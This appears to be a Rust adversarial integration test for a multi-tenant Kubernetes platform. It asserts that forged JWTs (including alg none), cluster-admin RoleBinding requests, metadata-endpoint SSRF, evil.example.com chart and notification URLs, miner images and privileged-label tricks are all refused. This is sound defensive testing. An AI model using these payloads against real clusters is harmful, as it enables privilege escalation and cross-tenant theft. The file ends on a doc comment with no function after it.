//! The adversarial suite: a hostile tenant, end to end, against the real binaries
//! (`kubenova-testkit serve` with simulated Capsule/KubeVela, `kubenova-manager serve`,
//! and the bootstrapped `kubenova-operator`).
//!
//! Two tenants, `acme` (the attacker) and `beta` (the victim), each with project `web` and
//! app `site`. Every case below states the attack, asserts the refusal (a KN error from the
//! manager, or a `Degraded` condition from the operator) and asserts that nothing changed:
//! the victim's records, the tenants' records and the objects in the cluster are compared
//! before and after. `docs/src/security.md` lists the threat model and maps every case to
//! this file.
#![allow(clippy::unwrap_used, missing_docs)]

mod common;

use base64::Engine as _;
use common::{database, drop_database};
use kube::api::{Api, DynamicObject, ListParams, PostParams};
use kube::core::{ApiResource, GroupVersionKind};
use kubenova_demo::flow::{Flow, STEP_TIMEOUT, Tenancy, create_tenancy};
use kubenova_demo::{Rest, wait_for};
use serde_json::{Value, json};

/// One attack: what it tries, and the manager's answer it must get.
struct Case<'a> {
    attack: &'a str,
    method: &'a str,
    path: String,
    body: Option<Value>,
    /// Acceptable HTTP statuses (each a refusal).
    statuses: &'a [u16],
}

/// One request, waiting out the manager's rate limits (on by default; the suite sends
/// hundreds of requests from one address): a 429 is retried after a second.
async fn send(api: &Rest, method: &str, path: &str, body: Option<&Value>) -> (u16, Value) {
    for _ in 0..60 {
        let (status, v) = api.call(method, path, body).await.unwrap();
        if status.as_u16() != 429 {
            return (status.as_u16(), v);
        }
        tokio::time::sleep(std::time::Duration::from_secs(1)).await;
    }
    panic!("{method} {path}: still rate limited after a minute");
}

/// `GET` as `api`, expecting 200.
async fn get(api: &Rest, path: &str) -> Value {
    let (status, v) = send(api, "GET", path, None).await;
    assert_eq!(status, 200, "GET {path}: {v}");
    v
}

fn b64url(v: &[u8]) -> String {
    base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(v)
}

fn jwt_payload(token: &str) -> Value {
    let payload = token.split('.').nth(1).unwrap();
    serde_json::from_slice(
        &base64::engine::general_purpose::URL_SAFE_NO_PAD
            .decode(payload)
            .unwrap(),
    )
    .unwrap()
}

fn resource(group: &str, version: &str, kind: &str, plural: &str) -> ApiResource {
    ApiResource::from_gvk_with_plural(&GroupVersionKind::gvk(group, version, kind), plural)
}

/// Everything an attack could change, as seen by the platform admin and in the cluster:
/// both tenancies' records (their specs and versions, not the operator-reported status)
/// and the names of every tenant-facing object in the cluster.
async fn snapshot(flow: &Flow, tenancies: &[&Tenancy]) -> Value {
    let api = flow.api();
    let mut records = Vec::new();
    for t in tenancies {
        for path in [&t.tenant_path, &t.project_path, &t.app_path] {
            let mut v = get(&api, path).await;
            if let Some(o) = v.as_object_mut() {
                for volatile in ["status", "velaPhase", "updatedAt"] {
                    o.remove(volatile);
                }
            }
            records.push(v);
        }
        for list in [
            format!("{}/projects", t.tenant_path),
            format!("{}/apps", t.project_path),
        ] {
            let l = get(&api, &list).await;
            records.push(json!(
                l["items"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|i| i["id"].clone())
                    .collect::<Vec<_>>()
            ));
        }
    }
    let tenants = get(&api, &flow.cluster_path("/tenants")).await;
    records.push(json!(
        tenants["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|i| i["name"].clone())
            .collect::<Vec<_>>()
    ));
    let k = &flow.testkit.client;
    let mut cluster = serde_json::Map::new();
    for (group, version, kind, plural) in [
        ("", "v1", "Namespace", "namespaces"),
        ("capsule.clastix.io", "v1beta2", "Tenant", "tenants"),
        ("core.oam.dev", "v1beta1", "Application", "applications"),
        (
            "rbac.authorization.k8s.io",
            "v1",
            "RoleBinding",
            "rolebindings",
        ),
        (
            "rbac.authorization.k8s.io",
            "v1",
            "ClusterRoleBinding",
            "clusterrolebindings",
        ),
        ("", "v1", "ServiceAccount", "serviceaccounts"),
        ("kubenova.io", "v1alpha1", "NovaProject", "novaprojects"),
        ("kubenova.io", "v1alpha1", "NovaApp", "novaapps"),
    ] {
        let api: Api<DynamicObject> =
            Api::all_with(k.clone(), &resource(group, version, kind, plural));
        let mut names: Vec<String> = api
            .list(&ListParams::default())
            .await
            .unwrap()
            .items
            .into_iter()
            .map(|o| {
                format!(
                    "{}/{}",
                    o.metadata.namespace.unwrap_or_default(),
                    o.metadata.name.unwrap_or_default()
                )
            })
            .collect();
        names.sort();
        cluster.insert(kind.to_owned(), json!(names));
    }
    json!({"records": records, "cluster": cluster})
}

/// Sends every case with `api`, asserts each is refused with a KN error of an expected
/// status, and that nothing changed.
async fn refused(flow: &Flow, tenancies: &[&Tenancy], api: &Rest, cases: &[Case<'_>]) {
    let before = snapshot(flow, tenancies).await;
    for c in cases {
        let (status, body) = send(api, c.method, &c.path, c.body.as_ref()).await;
        assert!(
            c.statuses.contains(&status),
            "ATTACK NOT REFUSED: {}\n{} {} → {status} {body}",
            c.attack,
            c.method,
            c.path
        );
        assert!(
            body["code"].as_str().is_some_and(|k| k.starts_with("KN-")),
            "{}: the refusal is not a KN error: {status} {body}",
            c.attack
        );
    }
    let after = snapshot(flow, tenancies).await;
    assert_eq!(
        before,
        after,
        "something changed after: {:?}",
        cases.iter().map(|c| c.attack).collect::<Vec<_>>()
    );
}

/// Mints a token as the platform admin.
async fn token(
    flow: &Flow,
    subject: &str,
    roles: &[&str],
    tenants: &[&str],
    projects: &[&str],
) -> String {
    let r = flow
        .api()
        .post(
            "/api/v1/tokens",
            &json!({"subject": subject, "roles": roles, "tenants": tenants, "projects": projects, "ttlMinutes": 30}),
        )
        .await
        .unwrap();
    r["token"].as_str().unwrap().to_owned()
}

fn id_of(path: &str) -> &str {
    path.rsplit('/').next().unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_tenant_is_refused_everywhere() {
    let Some(bins) = common::binaries() else {
        return;
    };
    let (url, pg) = database().await;
    let dir = tempfile::tempdir().unwrap();
    let mut flow = Flow::start(bins, dir.path(), &url).await.unwrap();
    let result = tokio::spawn(async move {
        let r = attacks(&mut flow).await;
        (r, flow.diagnostics())
    })
    .await;
    drop_database(pg).await;
    match result {
        Ok((Ok(()), _)) => {}
        Ok((Err(e), diagnostics)) => panic!("{e:?}\n{diagnostics}"),
        Err(panic) => std::panic::resume_unwind(panic.into_panic()),
    }
}

async fn attacks(flow: &mut Flow) -> anyhow::Result<()> {
    flow.bootstrap().await?;
    flow.start_operator().await?;
    flow.wait_cluster_status("connected", STEP_TIMEOUT).await?;
    flow.install_components().await?;
    let acme = create_tenancy(flow, "acme").await?;
    let beta = create_tenancy(flow, "beta").await?;
    for t in [&acme, &beta] {
        flow.wait_phase(&t.app_path, "ready").await?;
    }
    let both = [&acme, &beta];
    let (acme_t, acme_p) = (id_of(&acme.tenant_path), id_of(&acme.project_path));
    let owner = Rest::new(
        &flow.manager.url,
        &token(flow, "owner@acme.example", &["tenantOwner"], &[acme_t], &[]).await,
    );
    let dev_token = token(flow, "dev@acme.example", &["projectDev"], &[], &[acme_p]).await;
    let dev = Rest::new(&flow.manager.url, &dev_token);
    let reader = Rest::new(
        &flow.manager.url,
        &token(flow, "audit@acme.example", &["readOnly"], &[acme_t], &[]).await,
    );

    every_route_with_another_tenants_ids(flow, &both, &[&owner, &dev, &reader], &beta).await;
    scope_widening(flow, &both, &acme, &owner, &dev, &reader, &dev_token).await;
    dangerous_apps(flow, &both, &acme, &dev).await;
    oversized_and_nested_inputs(flow, &both, &acme, &dev, &dev_token).await;
    revocation_games(flow, &both, &acme).await;
    reserved_labels(flow, &both, &acme, &owner).await?;
    namespace_squatting(flow).await?;
    objects_written_directly_into_the_cluster(flow, &both).await?;
    apps_run_as_their_project(flow, &both).await?;
    Ok(())
}

/// Cross-tenant reads and writes by id, on every operation of the served OpenAPI document
/// that takes a tenant, project, app or run id: acme's owner, developer and reader, with
/// beta's ids, get KN-404 (another tenant's resources do not exist for them) or KN-403,
/// never an answer, and beta is unchanged.
async fn every_route_with_another_tenants_ids(
    flow: &Flow,
    both: &[&Tenancy],
    callers: &[&Rest],
    victim: &Tenancy,
) {
    let doc = get(&flow.api(), "/api/v1/openapi.json").await;
    let run = get(&flow.api(), &format!("{}/workflow/runs", victim.app_path)).await;
    let run_id = run["items"][0]["id"]
        .as_str()
        .unwrap_or("00000000-0000-0000-0000-000000000000")
        .to_owned();
    let cluster = id_of(&flow.cluster_path("")).to_owned();
    let ids = [
        ("{clusterID}", cluster),
        ("{tenantID}", id_of(&victim.tenant_path).to_owned()),
        ("{projectID}", id_of(&victim.project_path).to_owned()),
        ("{appID}", id_of(&victim.app_path).to_owned()),
        ("{runID}", run_id),
        ("{jti}", "00000000-0000-0000-0000-000000000000".to_owned()),
        ("{revA}", "1".to_owned()),
        ("{revB}", "1".to_owned()),
        ("{component}", "site".to_owned()),
    ];
    let mut cases = Vec::new();
    for (template, ops) in doc["paths"].as_object().unwrap() {
        if !["{tenantID}", "{projectID}", "{appID}", "{runID}"]
            .iter()
            .any(|p| template.contains(p))
        {
            continue;
        }
        let mut path = template.clone();
        for (k, v) in &ids {
            path = path.replace(k, v);
        }
        for (method, op) in ops.as_object().unwrap() {
            let method = method.to_uppercase();
            if !["GET", "POST", "PUT", "PATCH", "DELETE"].contains(&method.as_str()) {
                continue;
            }
            // The documented example body, so that only authorization can refuse it.
            let body = op
                .pointer("/requestBody/content/application~1json/example")
                .cloned()
                .or_else(|| matches!(method.as_str(), "POST" | "PUT").then(|| json!({})));
            cases.push((method, path.clone(), body));
        }
    }
    assert!(
        cases.len() > 40,
        "the OpenAPI document lists the tenant routes: {}",
        cases.len()
    );
    for caller in callers {
        let list: Vec<Case<'_>> = cases
            .iter()
            .map(|(m, p, b)| Case {
                attack: "reach another tenant's resource by id",
                method: m,
                path: p.clone(),
                body: b.clone(),
                statuses: &[403, 404],
            })
            .collect();
        refused(flow, both, caller, &list).await;
    }
}

/// Tokens asking for more than they carry: a developer acting as tenant owner, an owner
/// minting tokens, a reader writing, forged and tampered tokens.
async fn scope_widening(
    flow: &Flow,
    both: &[&Tenancy],
    acme: &Tenancy,
    owner: &Rest,
    dev: &Rest,
    reader: &Rest,
    dev_token: &str,
) {
    let beta_tenant = id_of(&both[1].tenant_path).to_owned();
    refused(
        flow,
        both,
        dev,
        &[
            Case {
                attack: "a project developer raises its tenant's quotas",
                method: "PUT",
                path: format!("{}/quotas", acme.tenant_path),
                body: Some(json!({"requests.cpu": "64"})),
                statuses: &[403, 404],
            },
            Case {
                attack: "a project developer adds itself as project owner",
                method: "PUT",
                path: format!("{}/access", acme.project_path),
                body: Some(json!({"access": ["owner:dev@acme.example"]})),
                statuses: &[403],
            },
            Case {
                attack: "a project developer creates another project",
                method: "POST",
                path: format!("{}/projects", acme.tenant_path),
                body: Some(json!({"name": "side"})),
                statuses: &[403, 404],
            },
            Case {
                attack: "a project developer issues itself a tenant owner kubeconfig",
                method: "POST",
                path: format!("/api/v1/tenants/{}/kubeconfig", id_of(&acme.tenant_path)),
                body: Some(json!({"role": "owner"})),
                statuses: &[403, 404],
            },
        ],
    )
    .await;
    refused(
        flow,
        both,
        owner,
        &[
            Case {
                attack: "a tenant owner mints an admin token",
                method: "POST",
                path: "/api/v1/tokens".into(),
                body: Some(json!({"subject": "owner@acme.example", "roles": ["admin"]})),
                statuses: &[403],
            },
            Case {
                attack: "a tenant owner mints a token for another tenant",
                method: "POST",
                path: "/api/v1/tokens".into(),
                body: Some(json!({"subject": "owner@acme.example", "roles": ["tenantOwner"], "tenants": [beta_tenant]})),
                statuses: &[403],
            },
            Case {
                attack: "a tenant owner changes its own plan",
                method: "PUT",
                path: format!("/api/v1/tenants/{}/plan", id_of(&acme.tenant_path)),
                body: Some(json!({"plan": "platinum"})),
                statuses: &[403],
            },
            Case {
                attack: "a tenant owner reads the audit trail",
                method: "GET",
                path: "/api/v1/audit".into(),
                body: None,
                statuses: &[403],
            },
            Case {
                attack: "a tenant owner registers a cluster",
                method: "POST",
                path: "/api/v1/clusters".into(),
                body: Some(json!({"name": "mine", "kubeconfig": "x"})),
                statuses: &[403],
            },
        ],
    )
    .await;
    refused(
        flow,
        both,
        reader,
        &[Case {
            attack: "a read-only user deploys",
            method: "POST",
            path: format!("{}:deploy", acme.app_path),
            body: Some(json!({})),
            statuses: &[403],
        }],
    )
    .await;

    // Forged tokens: no signature, a signature by another key, a signed token whose claims
    // were edited to name beta.
    let mut claims = jwt_payload(dev_token);
    claims["roles"] = json!(["admin"]);
    let unsigned = format!(
        "{}.{}.",
        b64url(br#"{"alg":"none","typ":"JWT"}"#),
        b64url(claims.to_string().as_bytes())
    );
    let parts: Vec<&str> = dev_token.split('.').collect();
    let tampered = format!(
        "{}.{}.{}",
        parts[0],
        b64url(claims.to_string().as_bytes()),
        parts[2]
    );
    let other_key = format!("{}.{}.{}", parts[0], parts[1], b64url(&[7u8; 32]));
    for (what, forged) in [
        ("an unsigned token (alg none) claiming admin", unsigned),
        ("a signed token whose claims were edited to admin", tampered),
        ("a token with another key's signature", other_key),
    ] {
        refused(
            flow,
            both,
            &Rest::new(&flow.manager.url, &forged),
            &[Case {
                attack: what,
                method: "DELETE",
                path: format!("{}?cascade=true", both[1].tenant_path),
                body: None,
                statuses: &[401],
            }],
        )
        .await;
    }
}

/// App specs asking KubeVela for every dangerous thing it can do: raw objects of any kind,
/// references to other namespaces' objects, other clusters, outbound requests from the
/// controller, RBAC-creating traits, blind patches, objects in other namespaces. All KN-422
/// before anything is stored.
async fn dangerous_apps(flow: &Flow, both: &[&Tenancy], acme: &Tenancy, dev: &Rest) {
    let apps = format!("{}/apps", acme.project_path);
    let crb = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
        "metadata": {"name": "pwn"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "User", "name": "dev@acme.example"}]});
    let component = |name: &str, type_: &str, props: Value| json!({"name": name, "components": [{"name": "c", "type": type_, "properties": props}]});
    let with_step = |name: &str, type_: &str, props: Value| json!({"name": name, "image": "nginx", "workflow": {"steps": [{"name": "s", "type": type_, "properties": props}]}});
    let with_policy = |name: &str, type_: &str, props: Value| json!({"name": name, "image": "nginx", "policies": [{"name": "p", "type": type_, "properties": props}]});
    let with_trait = |name: &str, type_: &str, props: Value| {
        json!({"name": name, "components": [{"name": "c", "type": "webservice", "properties": {"image": "nginx"},
               "traits": [{"type": type_, "properties": props}]}]})
    };
    let bodies = [
        (
            "k8s-objects: a ClusterRoleBinding to cluster-admin",
            component("a1", "k8s-objects", json!({"objects": [crb]})),
        ),
        (
            "raw: any object",
            component("a2", "raw", json!({"apiVersion": "v1", "kind": "Secret"})),
        ),
        (
            "ref-objects: read another namespace's Secret",
            component(
                "a3",
                "ref-objects",
                json!({"objects": [{"resource": "secret", "name": "kubenova-agent"}]}),
            ),
        ),
        (
            "helmchart: install any chart",
            component(
                "a4",
                "helmchart",
                json!({"chart": "x", "repoUrl": "https://evil.example.com"}),
            ),
        ),
        (
            "daemon: a pod on every node",
            component("a5", "daemon", json!({"image": "nginx"})),
        ),
        (
            "apply-object step: a ClusterRoleBinding",
            with_step("a6", "apply-object", json!({"value": crb})),
        ),
        (
            "read-object step: another namespace's Secret",
            with_step("a7", "read-object", json!({"kind": "Secret", "name": "x"})),
        ),
        (
            "webhook step: requests from the controller",
            with_step(
                "a8",
                "webhook",
                json!({"url": {"value": "http://169.254.169.254/"}}),
            ),
        ),
        (
            "request step: requests from the controller",
            with_step("a9", "request", json!({"url": "http://10.0.0.1/"})),
        ),
        (
            "notification step",
            with_step(
                "a10",
                "notification",
                json!({"slack": {"url": {"value": "https://evil.example.com"}}}),
            ),
        ),
        (
            "export2secret step",
            with_step(
                "a11",
                "export2secret",
                json!({"secretName": "x", "data": {}}),
            ),
        ),
        (
            "depends-on-app step: another tenant's app",
            with_step("a12", "depends-on-app", json!({"name": "site"})),
        ),
        (
            "topology policy: another cluster",
            with_policy("a13", "topology", json!({"clusters": ["prod"]})),
        ),
        (
            "override policy: swap the component type",
            with_policy(
                "a14",
                "override",
                json!({"components": [{"name": "c", "type": "k8s-objects"}]}),
            ),
        ),
        (
            "take-over policy: adopt existing objects",
            with_policy(
                "a15",
                "take-over",
                json!({"rules": [{"selector": {"resourceTypes": ["Secret"]}}]}),
            ),
        ),
        (
            "shared-resource policy",
            with_policy("a16", "shared-resource", json!({"rules": []})),
        ),
        (
            "envbinding policy: placements elsewhere",
            with_policy("a17", "envbinding", json!({"envs": []})),
        ),
        (
            "service-account trait: creates RBAC",
            with_trait(
                "a18",
                "service-account",
                json!({"name": "x", "create": true, "privileges": [{"scope": "cluster", "apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}),
            ),
        ),
        (
            "json-patch trait: patch past every check",
            with_trait(
                "a19",
                "json-patch",
                json!({"operations": [{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil.example.com/x"}]}),
            ),
        ),
        (
            "an allowed component with raw objects in another namespace",
            component(
                "a20",
                "webservice",
                json!({"image": "nginx", "objects": [{"metadata": {"namespace": "kube-system"}}]}),
            ),
        ),
        (
            "an allowed trait aiming at other namespaces",
            with_trait(
                "a21",
                "gateway",
                json!({"domain": "x.example.com", "namespace": "beta-apps"}),
            ),
        ),
        (
            "an allowed step deploying to another cluster",
            with_step(
                "a22",
                "apply-component",
                json!({"component": "a22", "cluster": "prod"}),
            ),
        ),
        (
            "an image from an unapproved registry",
            json!({"name": "a23", "image": "evil.example.com/miner:1"}),
        ),
        (
            "a policy named like KubeNova's own",
            json!({"name": "a24", "image": "nginx", "policies": [{"name": "kubenova-gc", "type": "garbage-collect"}]}),
        ),
    ];
    let cases: Vec<Case<'_>> = bodies
        .iter()
        .map(|(attack, body)| Case {
            attack,
            method: "POST",
            path: apps.clone(),
            body: Some(body.clone()),
            statuses: &[422],
        })
        .collect();
    refused(flow, both, dev, &cases).await;
}

/// Oversized and deeply nested inputs are refused with a KN error and the manager stays
/// healthy.
async fn oversized_and_nested_inputs(
    flow: &Flow,
    both: &[&Tenancy],
    acme: &Tenancy,
    dev: &Rest,
    dev_token: &str,
) {
    let apps = format!("{}/apps", acme.project_path);
    let mut deep = json!("x");
    for _ in 0..200 {
        deep = json!([deep]);
    }
    let many_labels: serde_json::Map<String, Value> =
        (0..1000).map(|i| (format!("k{i}"), json!("v"))).collect();
    refused(
        flow,
        both,
        dev,
        &[
            Case {
                attack: "properties nested 200 levels deep",
                method: "POST",
                path: apps.clone(),
                body: Some(json!({"name": "deep", "image": "nginx", "spec": {"x": deep}})),
                statuses: &[400, 422],
            },
            Case {
                attack: "a name of 300 characters",
                method: "POST",
                path: apps.clone(),
                body: Some(json!({"name": "a".repeat(300), "image": "nginx"})),
                statuses: &[422],
            },
            Case {
                attack: "an app with 1,000 components",
                method: "POST",
                path: apps.clone(),
                body: Some(json!({"name": "many", "components": (0..1000).map(|i| json!({"name": format!("c{i}"), "type": "webservice"})).collect::<Vec<_>>()})),
                statuses: &[413, 422],
            },
        ],
    )
    .await;
    refused(
        flow,
        both,
        &flow.api(),
        &[Case {
            attack: "a project with 1,000 labels",
            method: "POST",
            path: format!("{}/projects", acme.tenant_path),
            body: Some(json!({"name": "labels", "labels": many_labels})),
            statuses: &[422],
        }],
    )
    .await;
    // A 16 MiB body: refused before it is read whole. Sent by hand so that the answer
    // can come while the body is still on its way (only its first bytes are ever sent;
    // an HTTP client writing all 16 MiB would see the refused connection close under it).
    let before = snapshot(flow, both).await;
    let (status, body) = refused_before_the_body(&flow.manager.url, &apps, dev_token).await;
    assert_eq!(status, 413, "a 16 MiB body: {body}");
    assert_eq!(body["code"], "KN-413", "{body}");
    assert_eq!(before, snapshot(flow, both).await);
    get(&flow.api(), "/api/v1/readyz").await;
}

/// POSTs to `path` declaring a 16 MiB JSON body, sends only its first bytes, and returns
/// the status and JSON body of the answer (which must come without the rest).
async fn refused_before_the_body(base: &str, path: &str, token: &str) -> (u16, Value) {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let addr = base.trim_start_matches("http://").trim_end_matches('/');
    let mut conn = tokio::net::TcpStream::connect(addr).await.unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{{\"name\": \"huge\", \"description\": \"xxxx",
        16 << 20
    );
    conn.write_all(head.as_bytes()).await.unwrap();
    let mut answer = Vec::new();
    let read = tokio::time::timeout(STEP_TIMEOUT, async {
        let mut buf = [0u8; 8192];
        loop {
            match conn.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buf[..n]),
            }
            let text = String::from_utf8_lossy(&answer);
            if let Some((head, body)) = text.split_once("\r\n\r\n") {
                let length = head
                    .lines()
                    .find_map(|l| {
                        l.to_ascii_lowercase()
                            .strip_prefix("content-length:")
                            .map(|v| v.trim().to_owned())
                    })
                    .and_then(|v| v.parse::<usize>().ok());
                if length.is_some_and(|n| body.len() >= n) {
                    break;
                }
            }
        }
    })
    .await;
    assert!(read.is_ok(), "no answer while the body was still missing");
    let text = String::from_utf8_lossy(&answer).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let status = head
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    (status, serde_json::from_str(body).unwrap_or(Value::Null))
}

/// A tenant owner whose credentials the platform revoked keeps a valid manager token for a
/// while: it can neither lift its own revocation nor get a new credential, and it cannot
/// lift a revocation the platform made for someone else either.
async fn revocation_games(flow: &Flow, both: &[&Tenancy], acme: &Tenancy) {
    let tenant = id_of(&acme.tenant_path);
    publish_proxy_ca(flow).await;
    // Before the revocation mallory may get a kubeconfig: the refusals below are the
    // revocation's, not the cluster's.
    let mallory = token(
        flow,
        "mallory@acme.example",
        &["tenantOwner"],
        &[tenant],
        &[],
    )
    .await;
    let issue = format!("/api/v1/tenants/{tenant}/kubeconfig");
    let (status, body) = send(
        &Rest::new(&flow.manager.url, &mallory),
        "POST",
        &issue,
        Some(&json!({"role": "owner"})),
    )
    .await;
    assert_eq!(status, 200, "a kubeconfig before the revocation: {body}");
    let revoked = Rest::new(&flow.manager.url, &mallory);
    let other_owner = Rest::new(
        &flow.manager.url,
        &token(flow, "owner@acme.example", &["tenantOwner"], &[tenant], &[]).await,
    );
    for subject in ["mallory@acme.example", "ex-admin@acme.example"] {
        let (status, body) = send(
            &flow.api(),
            "DELETE",
            &format!("/api/v1/tenants/{tenant}/credentials?subject={subject}"),
            None,
        )
        .await;
        assert!(status < 300, "the admin revokes {subject}: {status} {body}");
    }
    let lift = format!("/api/v1/tenants/{tenant}/revoked-subjects:lift");
    refused(
        flow,
        both,
        &revoked,
        &[
            Case {
                attack: "a revoked owner lifts its own revocation",
                method: "POST",
                path: lift.clone(),
                body: Some(json!({"subject": "mallory@acme.example"})),
                statuses: &[403],
            },
            Case {
                attack: "a revoked owner issues itself a kubeconfig",
                method: "POST",
                path: issue.clone(),
                body: Some(json!({"role": "owner"})),
                statuses: &[403],
            },
            Case {
                attack: "a revoked owner refreshes an exec credential",
                method: "POST",
                path: format!("/api/v1/tenants/{tenant}/token"),
                body: Some(json!({})),
                statuses: &[403],
            },
        ],
    )
    .await;
    refused(
        flow,
        both,
        &other_owner,
        &[Case {
            attack: "a tenant owner lifts a revocation the platform made",
            method: "POST",
            path: lift.clone(),
            body: Some(json!({"subject": "ex-admin@acme.example"})),
            statuses: &[403],
        }],
    )
    .await;
    let (_, list) = send(
        &flow.api(),
        "GET",
        &format!("/api/v1/tenants/{tenant}/revoked-subjects"),
        None,
    )
    .await;
    assert_eq!(
        list["items"].as_array().map(Vec::len),
        Some(2),
        "both revocations stand: {list}"
    );
}

/// Labels under the platform's own prefixes would override what it enforces through them
/// (`pod-security.kubernetes.io/enforce: privileged` lifts the plan's Pod Security level):
/// refused by the manager, and by the operator for a NovaProject written into the cluster.
async fn reserved_labels(
    flow: &Flow,
    both: &[&Tenancy],
    acme: &Tenancy,
    owner: &Rest,
) -> anyhow::Result<()> {
    let mut cases = Vec::new();
    for key in [
        "pod-security.kubernetes.io/enforce",
        "kubernetes.io/metadata.name",
        "capsule.clastix.io/tenant",
        "kubenova.io/tenant",
        "app.oam.dev/username",
    ] {
        let labels = json!({ key: "privileged" });
        cases.push(Case {
            attack: "a project label under a reserved prefix",
            method: "POST",
            path: format!("{}/projects", acme.tenant_path),
            body: Some(json!({"name": "psa", "labels": labels})),
            statuses: &[422],
        });
        cases.push(Case {
            attack: "a reserved label added to an existing project",
            method: "PUT",
            path: acme.project_path.clone(),
            body: Some(json!({"name": "web", "labels": labels})),
            statuses: &[422],
        });
    }
    refused(flow, both, owner, &cases).await;

    let k = flow.testkit.client.clone();
    let projects: Api<DynamicObject> = Api::namespaced_with(
        k.clone(),
        "acme-owner",
        &resource("kubenova.io", "v1alpha1", "NovaProject", "novaprojects"),
    );
    let before = snapshot(flow, both).await;
    projects
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({"apiVersion": "kubenova.io/v1alpha1", "kind": "NovaProject",
                "metadata": {"name": "privileged", "namespace": "acme-owner"},
                "spec": {"tenant": "acme", "labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}))?,
        )
        .await?;
    wait_for("the privileged NovaProject refused", STEP_TIMEOUT, || {
        let projects = projects.clone();
        async move {
            let Some(o) = projects.get_opt("privileged").await? else {
                return Ok(Some(()));
            };
            let degraded = o.data["status"]["conditions"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|c| {
                    c["type"] == "Degraded" && c["status"] == "True" && c["reason"] == "InvalidSpec"
                });
            Ok(degraded.then_some(()))
        }
    })
    .await?;
    projects
        .delete("privileged", &Default::default())
        .await
        .ok();
    wait_for("the privileged NovaProject removed", STEP_TIMEOUT, || {
        let projects = projects.clone();
        async move {
            Ok(projects
                .get_opt("privileged")
                .await?
                .is_none()
                .then_some(()))
        }
    })
    .await?;
    assert_eq!(
        before,
        snapshot(flow, both).await,
        "no namespace was created for it"
    );
    Ok(())
}

/// A namespace the next tenant will need, created beforehand by someone else with every
/// label KubeNova puts on its namespaces (and even its owner annotation, written by another
/// field manager): the operator does not adopt it, the tenant reports `NameClash`, and the
/// namespace is left exactly as it was.
async fn namespace_squatting(flow: &Flow) -> anyhow::Result<()> {
    let k = flow.testkit.client.clone();
    let namespaces: Api<k8s_openapi::api::core::v1::Namespace> = Api::all(k.clone());
    let squatted = namespaces
        .create(
            &PostParams::default(),
            &serde_json::from_value(json!({"metadata": {"name": "delta-apps",
                "labels": {"app.kubernetes.io/managed-by": "kubenova-operator", "kubenova.io/tenant": "delta",
                           "capsule.clastix.io/tenant": "delta", "kubenova.io/namespace-role": "apps"},
                "annotations": {"kubenova.io/owner": "novatenants.kubenova.io/delta"}}}))?,
        )
        .await?;
    let t = flow
        .api()
        .post(
            &flow.cluster_path("/tenants"),
            &json!({"name": "delta", "plan": "gold", "owners": ["owner@delta.example"]}),
        )
        .await?;
    let tenant_path = flow.cluster_path(&format!("/tenants/{}", t["id"].as_str().unwrap()));
    let api = flow.api();
    wait_for("tenant delta Degraded with NameClash", STEP_TIMEOUT, || {
        let api = api.clone();
        let path = tenant_path.clone();
        async move {
            let t = get(&api, &path).await;
            let clash = t["status"]["conditions"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|c| {
                    c["type"] == "Degraded" && c["status"] == "True" && c["reason"] == "NameClash"
                });
            Ok((t["status"]["phase"] == "degraded" && clash).then_some(()))
        }
    })
    .await?;
    let now = namespaces.get("delta-apps").await?;
    assert_eq!(now.metadata.labels, squatted.metadata.labels);
    assert_eq!(now.metadata.annotations, squatted.metadata.annotations);
    assert_eq!(
        now.metadata.owner_references,
        squatted.metadata.owner_references
    );
    let capsule: Api<DynamicObject> = Api::all_with(
        k.clone(),
        &resource("capsule.clastix.io", "v1beta2", "Tenant", "tenants"),
    );
    assert!(
        capsule.get_opt("delta").await?.is_none(),
        "nothing was created for delta"
    );
    Ok(())
}

/// Gives the emulated cluster's Capsule Proxy a CA (the Secret the operator reports it
/// from) and waits until the manager knows it, so kubeconfigs can be issued.
async fn publish_proxy_ca(flow: &Flow) {
    let kubeconfig = std::fs::read_to_string(&flow.testkit.kubeconfig).unwrap();
    let ca = kubeconfig
        .lines()
        .find_map(|l| l.trim().strip_prefix("certificate-authority-data:"))
        .unwrap()
        .trim()
        .to_owned();
    let k = flow.testkit.client.clone();
    let namespaces: Api<k8s_openapi::api::core::v1::Namespace> = Api::all(k.clone());
    if namespaces
        .get_opt("capsule-system")
        .await
        .unwrap()
        .is_none()
    {
        namespaces
            .create(
                &PostParams::default(),
                &serde_json::from_value(json!({"metadata": {"name": "capsule-system"}})).unwrap(),
            )
            .await
            .unwrap();
    }
    let secrets: Api<k8s_openapi::api::core::v1::Secret> =
        Api::namespaced(k.clone(), "capsule-system");
    if secrets.get_opt("capsule-proxy").await.unwrap().is_none() {
        secrets
            .create(
                &PostParams::default(),
                &serde_json::from_value(
                    json!({"metadata": {"name": "capsule-proxy"}, "data": {"ca.crt": ca}}),
                )
                .unwrap(),
            )
            .await
            .unwrap();
    }
    let api = flow.api();
    let path = flow.cluster_path("");
    wait_for("the cluster's Capsule Proxy CA", STEP_TIMEOUT, || {
        let api = api.clone();
        let path = path.clone();
        async move {
            let c = get(&api, &path).await;
            Ok(c["proxy"]["caData"].is_string().then_some(()))
        }
    })
    .await
    .unwrap();
}

/// Nova objects written straight into the cluster by someone with rights in a tenant's
/// namespaces (not through the manager): a NovaProject in acme's owner namespace claiming
/// beta, a NovaApp in acme's project namespace claiming beta's project, a NovaApp asking for
/// raw objects. The operator refuses each (Degraded, nothing generated).
